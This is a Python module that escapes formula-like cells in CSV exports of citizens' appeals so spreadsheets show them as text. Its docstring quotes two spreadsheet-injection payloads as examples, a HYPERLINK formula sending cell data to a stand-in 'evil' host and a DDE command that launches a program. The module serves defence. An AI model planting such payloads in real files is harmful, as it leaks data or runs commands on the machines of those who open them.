r"""CSV that is safe to open in Excel or LibreOffice: no cell is ever run as a formula.

Territories, departments and topics come from citizens' appeals and exports, so a value such as
``=HYPERLINK("http://evil/?"&A1;"Подробнее")`` or ``@SUM(1+1)*cmd|' /C calc'!A0`` can reach a
file an analyst opens in a spreadsheet, which would run it. Every CSV that leaves the system is
written through :func:`write_csv` / :func:`csv_text`, which follow the OWASP rule: a text cell
that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (or their full-width
forms) gets a leading ``'``, which spreadsheets show as text and do not display. Numbers (and
texts that are plain numbers, such as ``-12.5``) are written as they are. Lines end in ``\n``; a
row with a carriage return in a cell is written fully quoted, since :mod:`csv` quotes only the
line terminator's characters and a bare ``\r`` would start a new row in Excel (``a\r=1+1``).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import Any, TextIO

__all__ = ["FORMULA_PREFIXES", "csv_text", "safe_cell", "safe_row", "write_csv"]

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""First characters that make a spreadsheet read a cell as a formula (OWASP, plus full-width)."""

_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet should receive it: a formula-like text gets a leading ``'``.

    Args:
        value: Any cell value; only strings are changed.

    Returns:
        ``"'" + value`` for a string starting with a formula character that is not a plain
        number; the value unchanged otherwise.
    """
    if (isinstance(value, str) and value.startswith(FORMULA_PREFIXES)
            and not _PLAIN_NUMBER.fullmatch(value)):
        return "'" + value
    return value


def safe_row(row: Mapping[str, Any]) -> dict[str, Any]:
    """A mapping row with every value passed through :func:`safe_cell`."""
    return {key: safe_cell(value) for key, value in row.items()}


def write_csv(out: TextIO, rows: Iterable[Mapping[str, Any]], fieldnames: Sequence[str]) -> None:
    r"""Write a header and dict rows as spreadsheet-safe CSV (``\n`` line ends).

    Args:
        out: A text stream opened with ``newline=""`` (or a :class:`io.StringIO`).
        rows: One mapping per row; keys outside ``fieldnames`` are an error, as in
            :class:`csv.DictWriter`.
        fieldnames: The columns, in order (the header row is made safe as well).
    """
    minimal = csv.writer(out, lineterminator="\n")
    quoted = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)

    def write(cells: list[Any]) -> None:
        has_cr = any(isinstance(cell, str) and "\r" in cell for cell in cells)
        (quoted if has_cr else minimal).writerow(cells)

    names = list(fieldnames)
    write([safe_cell(name) for name in names])
    for row in rows:
        extra = set(row) - set(names)
        if extra:
            raise ValueError(f"row has fields outside the header: {sorted(extra)}")
        write([safe_cell(row.get(name, "")) for name in names])


def csv_text(rows: Iterable[Mapping[str, Any]], fieldnames: Sequence[str]) -> str:
    """The rows as spreadsheet-safe CSV text (see :func:`write_csv`)."""
    buffer = io.StringIO(newline="")
    write_csv(buffer, rows, fieldnames)
    return buffer.getvalue()
